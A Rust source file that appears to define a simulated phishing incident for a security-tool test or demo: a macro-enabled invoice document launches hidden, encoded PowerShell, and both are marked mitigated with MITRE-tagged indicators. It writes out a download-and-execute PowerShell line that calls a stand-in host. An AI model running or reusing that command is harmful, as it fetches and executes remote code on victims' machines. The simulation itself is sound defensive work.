//! A mailed document whose macro starts PowerShell, which would have fetched more. The laptop protects itself: both
//! the document and the script are stopped after they ran. What is left to do is to check that.

use serde_json::json;

use crate::fleet::Role;
use crate::scenario::{Cast, Scenario, Step, at};
use crate::threat::{Engine, Outcome, Threat, encoded_command, indicator};

pub(crate) const SCENARIO: Scenario =
    Scenario { name: "phishing-document", about: "a mailed document starts PowerShell; the agent stops both", steps };

fn steps(cast: &mut Cast<'_>) -> Vec<Step> {
    let host = cast.host(Role::Laptop, 1);
    let document = cast.say("請求書_至急ご確認ください.docm", "Overdue_Invoice_Review.docm");
    let folder = cast.say("添付ファイル", "Attachments");
    let path = format!(r"\Device\HarddiskVolume3\Users\{{user}}\Documents\{folder}\{document}");
    let word = format!(
        r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{{user}}\Documents\{folder}\{document}""#
    );
    let dropper = Threat::new(&host, document, Engine::Documents)
        .path(&path)
        .hashed_from("phishing-document document")
        .classified("Downloader")
        .storyline("mail")
        .outcome(Outcome::Mitigated)
        .ran(&word, "OUTLOOK.EXE")
        .info(
            "macroModules",
            json!([{"moduleName": "ThisDocument", "sha1": "5f1c8a0be6d94a1c2f3b7d6a9e0c4b8d7a6f5e31"}]),
        )
        .indicator(indicator(
            "General",
            "The document contains a macro that runs when it is opened.",
            &[52],
            &[("Initial Access", &["T1566.001"]), ("Execution", &["T1204.002"])],
        ))
        .indicator(indicator(
            "Evasion",
            "An Office program started a command interpreter.",
            &[211],
            &[("Execution", &["T1059.001"])],
        ));

    let script =
        encoded_command("IEX (New-Object Net.WebClient).DownloadString('http://files.parcel-notice.example/st2.txt')");
    let shell = Threat::new(&host, "powershell.exe", Engine::Behavioral)
        .path(r"\Device\HarddiskVolume3\Windows\System32\WindowsPowerShell\v1.0\powershell.exe")
        .hashed_from("phishing-document shell")
        .classified("Trojan")
        .signed_by("MICROSOFT WINDOWS")
        .storyline("mail")
        .outcome(Outcome::Mitigated)
        .info("isFileless", true)
        .ran(&format!("powershell.exe -w hidden -nop -enc {script}"), "WINWORD.EXE")
        .indicator(indicator(
            "Evasion",
            "PowerShell ran hidden with an encoded command.",
            &[196],
            &[("Execution", &["T1059.001"]), ("Defense Evasion", &["T1027", "T1564.003"])],
        ))
        .indicator(indicator(
            "General",
            "A script was downloaded and run from memory.",
            &[131],
            &[("Command and Control", &["T1105"])],
        ));
    vec![at(0.0).raise("document", dropper), at(1.5).raise("shell", shell)]
}
